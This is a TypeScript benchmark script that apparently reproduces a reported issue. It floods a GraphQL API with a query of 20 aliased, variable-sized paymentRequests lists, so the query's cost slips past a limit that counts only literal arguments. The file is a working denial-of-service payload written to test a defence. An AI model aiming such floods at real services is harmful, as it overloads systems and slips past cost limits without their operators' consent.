/**
 * Floods an API with the operation of issue 35 from a process of its own: 20 aliases of
 * `paymentRequests(first: $n)` with `n = 100` and a list under every node, two calls in flight at
 * a time. Its cost hangs on a variable, so a limit that reads only literals counts each list once.
 * Usage: `node --import tsx bench/floods/alias-variable.ts <base> <apiKey>`; then, on standard
 * input, `flood` starts a turn and `pause` ends it. On standard output: `{"underway": true}` once
 * a turn's first call is answered, and after each pause `{"statuses": [[status, count], …]}`,
 * counted over every turn so far.
 */
import { graphqlCaller, print, runTurns } from "./turns.js";

const [base = "", apiKey = ""] = process.argv.slice(2);

/** Calls in flight at once, as the attack was measured. */
const IN_FLIGHT = 2;
const ALIASES = 20;

const node = "id description refunds { id } activities { action } webhookEvents { attempts { number } } paidBy { id }";
const body = JSON.stringify({
  query: `query($n: Int) { ${Array.from(
    { length: ALIASES },
    (_, i) => `a${i}: paymentRequests(first: $n) { edges { node { ${node} } } }`,
  ).join(" ")} }`,
  variables: { n: 100 },
});

const caller = graphqlCaller(base, apiKey, IN_FLIGHT);

/** A turn: IN_FLIGHT loops, each sending the next call as soon as the last is answered. */
function flood() {
  let stopped = false;
  let told = false;
  const loop = async () => {
    while (!stopped) {
      await caller.send(body);
      if (!told) print({ underway: (told = true) });
    }
  };
  const loops = Array.from({ length: IN_FLIGHT }, loop);
  return async () => {
    stopped = true;
    await Promise.all(loops);
  };
}

await runTurns(flood, caller);
caller.close();
